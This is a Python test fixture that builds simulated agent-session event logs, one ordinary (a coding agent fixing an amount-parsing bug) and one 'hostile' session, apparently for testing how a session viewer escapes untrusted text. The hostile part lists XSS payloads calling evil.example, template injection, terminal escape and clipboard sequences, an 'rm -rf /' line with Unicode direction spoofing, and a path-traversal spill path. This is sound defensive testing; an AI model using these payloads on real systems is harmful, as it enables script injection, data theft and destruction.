"""A session as they are, and one that is full of what an attacker would try."""

import json
from collections.abc import Sequence

from coordinator.endpoint.reply import RawCall, Usage
from coordinator.session.call_events import ApprovalAnswered, ApprovalAsked, CallFinished, CallStarted, TodosWritten
from coordinator.session.event_fields import CutInfo, TodoItem
from coordinator.session.events import Event
from coordinator.session.session_events import ChildEnded, ChildStarted, Notice, SessionEnded, SessionPlaced
from coordinator.session.step_events import ModelReplied, StepStarted, UserMessage
from tests.coordinator.page.conftest import started

Timed = list[tuple[float, Event]]


class Telling:
    """Writes down what a session does, second by second."""

    def __init__(self, session_id: str, prompt: str = "Make the failing test pass.") -> None:
        self.at_s = 0.0
        self.step = 0
        self.events: Timed = [(0.0, started(session_id, prompt))]

    def add(self, after_s: float, event: Event) -> None:
        self.at_s += after_s
        self.events.append((self.at_s, event))

    def reply(
        self, text: str, calls: Sequence[tuple[str, str]] = (), *, asks_s: float = 0.1, takes_s: float = 2
    ) -> None:
        """One more step with a reply of the model; calls are tool and arguments."""
        self.step += 1
        self.add(asks_s, StepStarted(step=self.step))
        raw = tuple(RawCall(index, f"call_{index}", tool, given) for index, (tool, given) in enumerate(calls))
        usage = Usage(2_900 * self.step, 180 + 20 * len(text), 2_900 * self.step + 180 + 20 * len(text))
        reason = "tool_calls" if calls else "stop"
        self.add(takes_s, ModelReplied(step=self.step, text=text, calls=raw, finish_reason=reason, usage=usage))

    def begin(self, index: int, tool: str, summary: str, after_s: float = 0.01) -> None:
        self.add(after_s, CallStarted(step=self.step, index=index, call_id=f"call_{index}", tool=tool, summary=summary))

    def finish(
        self, index: int, tool: str, answer: str, after_s: float = 0.5, *, error: str = "", cut: CutInfo | None = None
    ) -> None:
        began = max(at for at, event in self.events if isinstance(event, CallStarted) and event.index == index)
        self.add(
            after_s,
            CallFinished(
                step=self.step,
                index=index,
                call_id=f"call_{index}",
                tool=tool,
                status="error" if error else "success",
                error_code=error or None,
                time_ms=1000 * (self.at_s + after_s - began),
                cut=cut,
                answer=json.dumps({"status": "error" if error else "success", "text": answer}),
            ),
        )

    def end(self, status: str = "completed", *, patch: str | None = None, cost_usd: float | None = 0.21) -> None:
        self.add(
            0.1,
            SessionEnded(
                status=status,
                stop_reason="done" if status == "completed" else "the endpoint refused: 401",
                text="The test passes: an amount with one decimal had lost its zero.",
                steps=self.step,
                calls=7,
                usage=Usage(41_250, 2_310, 43_560),
                cost_usd=cost_usd,
                patch_path=patch,
            ),
        )


def ordinary(session_id: str) -> Telling:
    """A session that runs: some steps done, the last one under way."""
    told = Telling(session_id, "The tests of this project fail. Find out why, mend it, and show that they pass.")
    told.add(1.2, SessionPlaced(node="node-a", incarnation="1", run_id="r"))
    told.reply(
        "I look for the code that reads amounts, and at the tests that fail.",
        [
            ("Grep", '{"pattern": "parse_amount", "path": "."}'),
            ("Read", '{"path": "ledger/money.py"}'),
            ("Read", '{"path": "tests/test_money.py", "limit": 200}'),
        ],
    )
    for index, (tool, summary) in enumerate(
        [("Grep", "parse_amount"), ("Read", "ledger/money.py"), ("Read", "tests/test_money.py")]
    ):
        told.begin(index, tool, summary)
    told.finish(
        0, "Grep", "ledger/money.py:4:def parse_amount(text: str) -> int:\ntests/test_money.py:9:    assert …", 0.3
    )
    told.finish(
        1, "Read", '1\tdef parse_amount(text: str) -> int:\n2\t    whole, _, fraction = text.partition(".")', 0.2
    )
    told.finish(2, "Read", "1\tfrom ledger.money import parse_amount", 0.4)
    todos = (("Find the cause", "completed"), ("Mend parse_amount", "in_progress"), ("Run all tests", "pending"))
    told.add(0, TodosWritten(step=1, index=0, todos=tuple(TodoItem(content=c, status=s) for c, s in todos)))
    told.reply(
        "“12.5” has one decimal: its 5 is read as 5 cents, not 50. Does anything else read amounts?",
        [
            ("Edit", '{"path": "ledger/money.py", "old": "int(fraction or \\"0\\")", "new": "int(fraction.ljust(2))"}'),
            ("Task", '{"description": "Find other readers of amounts", "profile": "explore"}'),
        ],
        takes_s=3,
    )
    told.begin(0, "Edit", "ledger/money.py")
    told.finish(0, "Edit", "1 replacement", 0.2)
    told.begin(1, "Task", "Find other readers of amounts")
    child = {"step": 2, "index": 1, "child": f"{session_id}~1-2-1", "transcript": "children/1-2-1/x.1.jsonl"}
    told.add(0.2, ChildStarted(description="Find other readers of amounts", profile="explore", **child))
    told.add(
        4.5,
        ChildEnded(
            description="Find other readers of amounts",
            status="completed",
            stop_reason="done",
            steps=3,
            calls=5,
            usage=Usage(9_100, 420, 9_520),
            **child,
        ),
    )
    told.finish(1, "Task", "Nothing else reads amounts.", 0.1)
    told.reply(
        "Now the tests.",
        [("Bash", '{"command": "python3 -m pytest -q", "timeout_s": 120}'), ("Bash", '{"command": "git status"}')],
        takes_s=1.4,
    )
    told.add(
        0.1,
        ApprovalAsked(step=3, index=0, tool="Bash", summary="python3 -m pytest -q", reason="not a read", within_s=60),
    )
    told.add(1.8, ApprovalAnswered(step=3, index=0, tool="Bash", decision="allow", note="local on the page"))
    told.begin(0, "Bash", "python3 -m pytest -q")
    told.finish(
        0,
        "Bash",
        "FAILED tests/test_money.py::test_one_decimal - ValueError: '5 '\n1 failed, 13 passed in 0.04s",
        2.6,
        error="EXIT_1",
        cut=CutInfo(total_bytes=48_211, shown_bytes=9_000, path="/spill/3-0.txt"),
    )
    told.begin(1, "Bash", "git status")
    told.finish(1, "Bash", "On branch main\nChanges not staged for commit:\n\tmodified:   ledger/money.py", 0.2)
    told.add(0.1, Notice(level="warning", text="Bash is tried again: the last two calls were the same."))
    told.add(0.1, UserMessage(text="Use zeros, not blanks."))
    return told


def sub_agent(words: str = "Nothing else reads them.") -> Telling:
    """What the sub-agent of the ordinary session did."""
    told = Telling("child", "Find other readers of amounts")
    told.reply("I look for what else reads amounts.", [("Grep", '{"pattern": "amount"}'), ("Glob", "{}")])
    told.begin(0, "Grep", "amount")
    told.begin(1, "Glob", "**/*.py")
    told.finish(0, "Grep", "one line only")
    told.finish(1, "Glob", words, error="NOT_FOUND")
    told.reply(words)
    told.end()
    return told


PATCH = b"""diff --git a/a.py b/a.py
index 1..2 100644
--- a/a.py
+++ b/a.py
@@ -1,2 +1,3 @@ def f():
 same
-old <b>
+++ new \x1b[31m
+more
\\ No newline at end of file
diff --git a/b.bin b/b.bin
new file mode 100644
Binary files /dev/null and b/b.bin differ
"""

HOSTILE = (
    "<script>window.__ran = 1; fetch('https://evil.example/a')</script>",
    "<img src=x onerror=\"window.__ran = 2\"><img src='https://evil.example/b.png'>",
    "<svg onload=window.__ran=3><a xlink:href='javascript:window.__ran=4'>x</a></svg>",
    "\"><iframe src='https://evil.example/c'></iframe><base href='https://evil.example/'>",
    "'-alert(1)-' {{ 7 * 7 }} {% raw %} ${window.__ran=5} </pre></details></template><script>window.__ran=6</script>",
    "<style>@import 'https://evil.example/d.css'; * { display: none }</style><link href=//evil.example/e>",
    "<meta http-equiv=refresh content='0;url=//evil.example/f'><form action='//evil.example/g'><button>Allow",
    "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x9b31m\r\b\x00 hidden",
    "rm -rf / \u202e txt.eldnaser\u2066\u200b\u2028\u2029\ufeff end",
    "\ud800 lone",
    "data: x\n\nevent: over\ndata: {}\n\n",
)
HOSTILE_TEXT = "\n".join(HOSTILE)
LONG_LINE = "<b>" + "A" * 1_000_000


def hostile(session_id: str) -> Telling:
    """A session in which every field that a model, a tool or a repository writes is an attack."""
    told = Telling(session_id, HOSTILE_TEXT)
    calls = [(text, json.dumps({text: text, "command": HOSTILE_TEXT})) for text in HOSTILE]
    told.reply(HOSTILE_TEXT, calls)
    for index, text in enumerate(HOSTILE):
        told.begin(index, text, text)
        told.finish(index, text, HOSTILE_TEXT, 0.1, error=text if index % 2 else "")
    child = {"step": 1, "index": 0, "child": HOSTILE[0], "transcript": f"children/{HOSTILE[1]}/x"}
    told.add(0.1, ChildStarted(description=HOSTILE[1], profile=HOSTILE[0], **child))
    told.add(0.1, TodosWritten(step=1, index=0, todos=tuple(TodoItem(content=t, status="pending") for t in HOSTILE)))
    told.reply(LONG_LINE, [("Bash", LONG_LINE)])
    told.begin(0, "Bash", LONG_LINE)
    cut = CutInfo(total_bytes=9, shown_bytes=1, path="/spill/../../principals.json")
    told.finish(0, "Bash", LONG_LINE, 0.1, cut=cut)
    for text in HOSTILE:
        told.add(0, Notice(level="warning", text=text))
    return told
